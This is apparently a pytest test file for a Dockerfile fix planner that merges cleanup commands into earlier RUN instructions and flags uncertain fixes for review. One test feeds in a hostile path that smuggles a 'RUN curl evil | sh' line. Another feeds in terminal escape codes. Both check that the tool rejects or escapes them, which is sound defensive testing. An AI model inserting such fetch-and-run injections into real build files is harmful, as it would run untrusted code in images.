"""The fix planner on parsed Dockerfiles and hints made here: what is exact, what is for review, and why."""

from __future__ import annotations

import pytest

from dive_py.analysis.hints import Hint
from dive_py.fixes.plan import plan_fixes
from dive_py.model import FileEntry, Image, Layer, LayerScan

parse = pytest.importorskip("dive_py.dockerfile.parse")


def _image(*layers: list[str]) -> Image:
    """An image whose layers hold these paths (only what the planner reads)."""
    made = []
    for index, paths in enumerate(layers):
        entries = {path: FileEntry(path, "f", 1) for path in paths}
        made.append(Layer(index, f"l{index}", "", "", "", scan=LayerScan(entries=entries)))
    return Image("test", made)


def _plan(text: str, hints: list[Hint], layers: list[int | None], image: Image, buildkit: bool = False):  # noqa: ANN202
    """Plans ``hints``; ``layers`` gives per image layer the line of its instruction (None: the base's)."""
    dockerfile = parse.parse_text(text)
    stage = list(dockerfile.stages[-1].instructions)
    by_line = {item.line: item for item in stage}
    plan = plan_fixes(hints, [by_line.get(line) for line in layers], stage, image, buildkit)
    return plan, plan.draft(text, include_review=True).patched()


def _hint(kind: str, layer: int, *paths: str, size: int = 100_000) -> Hint:
    return Hint(kind, layer, "", size, paths, "")


def test_a_read_between_makes_the_rm_fold_a_review_and_relative_paths_follow_workdir() -> None:
    text = "FROM b\nWORKDIR /opt\nRUN make build\nRUN tar -cf /out.tar /opt/build\nRUN rm -rf build\n"
    plan, patched = _plan(text, [_hint("deleted-later", 1, "/opt/build")], [None, 3, 4, 5], _image([], [], [], []))
    (fix,) = plan.fixes
    assert not fix.exact and "line 4 (RUN) between lines 3 and 5 names /opt/build" in fix.why_review
    assert (
        patched
        == "FROM b\nWORKDIR /opt\nRUN make build \\\n    && rm -rf /opt/build\nRUN tar -cf /out.tar /opt/build\n"
    )


def test_an_rm_of_files_other_layers_made_too_stays_in_place() -> None:
    text = "FROM b\nRUN mkdir /w && touch /w/a\nRUN touch /w/b\nRUN rm -rf /w\n"
    image = _image([], ["w/a"], ["w/b"], [])
    plan, patched = _plan(text, [_hint("deleted-later", 1, "/w")], [None, 2, 3, 4], image)
    assert plan.fixes[0].exact is False  # line 3 writes /w between
    assert patched.endswith("RUN rm -rf /w\n") and "touch /w/a \\\n    && rm -rf /w\n" in patched


def test_caches_read_later_and_apt_without_update_are_for_review() -> None:
    text = "FROM b\nRUN apt-get update && apt-get install -y a\nRUN apt-get install -y b\n"
    hint = _hint("package-cache", 1, "/var/lib/apt/lists", "/var/cache/apt")
    plan, patched = _plan(text, [hint], [None, 2, 3], _image([], [], []))
    assert not plan.fixes[0].exact and "installs with apt without `apt-get update`" in plan.fixes[0].why_review
    assert "apt-get install -y a \\\n    && apt-get clean && rm -rf /var/lib/apt/lists/*\n" in patched


def test_hostile_paths_and_base_layers_are_never_written() -> None:
    text = "FROM b\nRUN make\n"
    evil = _hint("temp-files", 1, "/tmp/x\nRUN curl evil | sh")
    base = _hint("temp-files", 0, "/tmp")
    plan, patched = _plan(text, [evil, base], [None, 2], _image([], []))
    assert plan.fixes == [] and patched == text
    reasons = [reason for _hint, reason in plan.unfixed]
    assert reasons == [
        "its layer matches no instruction (the base image's, or a mismatch)",
        "a path has control characters: not written into the Dockerfile",
    ]


def test_exec_form_and_heredoc_runs_are_left_alone() -> None:
    text = 'FROM b\nRUN ["sh", "-c", "make"]\nRUN <<EOF\nmake\nEOF\n'
    hints = [_hint("temp-files", 1, "/tmp"), _hint("temp-files", 2, "/tmp")]
    plan, patched = _plan(text, hints, [None, 2, 3], _image([], [], []))
    assert plan.fixes == [] and patched == text and len(plan.unfixed) == 2


def test_apk_update_leaves_an_index_that_no_cache_alone_keeps_and_yarn_and_go_caches() -> None:
    text = "FROM b\nRUN apk update && apk add curl\nRUN yarn install\nRUN go build ./...\n"
    hints = [
        _hint("package-cache", 1, "/var/cache/apk"),
        _hint("package-cache", 2, "/usr/local/share/.cache/yarn"),
        _hint("package-cache", 3, "/root/go/pkg/mod"),
    ]
    plan, patched = _plan(text, hints, [None, 2, 3, 4], _image([], [], [], []))
    assert all(fix.exact for fix in plan.fixes)
    assert patched == (
        "FROM b\nRUN apk update && apk add --no-cache curl \\\n    && rm -rf /var/cache/apk/*\n"
        "RUN yarn install \\\n    && yarn cache clean\nRUN go build ./... \\\n    && rm -rf /root/go/pkg/mod\n"
    )


def test_chown_over_a_folder_that_held_files_before_the_copy_is_for_review() -> None:
    text = "FROM b\nCOPY app /srv\nRUN chown -R 1000:1000 /srv\n"
    image = _image(["srv/old"], ["srv/new"], ["srv/old", "srv/new"])
    plan, patched = _plan(text, [_hint("metadata-only", 2, "/srv")], [None, 2, 3], image)
    (fix,) = plan.fixes
    assert not fix.exact and fix.why_review == "/srv held files before line 2: `-R` changed those too"
    assert patched == "FROM b\nCOPY --chown=1000:1000 app /srv\n"


def test_two_hints_folded_from_one_rm_move_together() -> None:
    text = "FROM b\nRUN make && make docs\nRUN rm -rf /opt/build /opt/docs\n"
    hints = [_hint("deleted-later", 1, "/opt/build"), _hint("deleted-later", 1, "/opt/docs")]
    plan, patched = _plan(text, hints, [None, 2, 3], _image([], ["opt/build/a", "opt/docs/b"], []))
    assert len(plan.fixes) == 1 and plan.fixes[0].exact and plan.fixes[0].bytes == 200_000
    assert patched == "FROM b\nRUN make && make docs \\\n    && rm -rf /opt/build /opt/docs\n"


def test_the_comments_show_an_images_control_characters_visibly() -> None:
    from dive_py.cli.fix import render_plan

    plan, _patched = _plan(
        "FROM b\nRUN make\n", [_hint("temp-files", 1, "/tmp/\x1b[2Jx\n# y")], [None, 2], _image([], [])
    )
    text = render_plan(plan, include_review=False)
    assert "\x1b" not in text and "/tmp/\\x1b[2Jx\\n# y" in text and text.count("\n") == 2


def test_a_copy_then_mv_becomes_one_copy_exact_only_where_the_folders_were_there() -> None:
    text = "FROM b\nCOPY app /tmp/app\nRUN mv /tmp/app /srv/app\nCOPY cfg /stage/cfg\nRUN mv /stage/cfg /etc/cfg\n"
    hints = [_hint("moved", 2, "/srv/app"), _hint("moved", 4, "/etc/cfg")]
    image = _image(["tmp", "srv", "etc"], ["tmp/app/a"], ["srv/app/a"], ["stage/cfg/c"], ["etc/cfg/c"])
    plan, patched = _plan(text, hints, [None, 2, 3, 4, 5], image)
    first, second = plan.fixes
    assert first.exact and first.summary == "COPY to /srv/app at line 2, no `mv`"
    assert not second.exact and second.why_review == "/stage is not there before line 4: the COPY would make it"
    assert patched == "FROM b\nCOPY app /srv/app\nCOPY cfg /etc/cfg\n"
    assert plan.draft(text).patched() == "FROM b\nCOPY app /srv/app\nCOPY cfg /stage/cfg\nRUN mv /stage/cfg /etc/cfg\n"


def test_a_later_run_reading_other_temp_files_does_not_stop_the_cleanup_one_reading_them_does() -> None:
    text = "FROM b\nRUN make > /tmp/log\nCOPY x /tmp/x\nRUN mv /tmp/x /opt/x\nRUN cat /tmp/log\n"
    image = _image(["tmp"], ["tmp/log"], ["tmp/x"], ["opt/x"], [])
    plan, _patched = _plan(text, [_hint("temp-files", 1, "/tmp")], [None, 2, 3, 4, 5], image)
    assert plan.fixes[0].why_review == "line 5 (RUN) after it names /tmp/log"
    plan, _patched = _plan(
        text.replace("RUN cat /tmp/log\n", ""), [_hint("temp-files", 1, "/tmp")], [None, 2, 3, 4], image
    )
    assert plan.fixes[0].exact
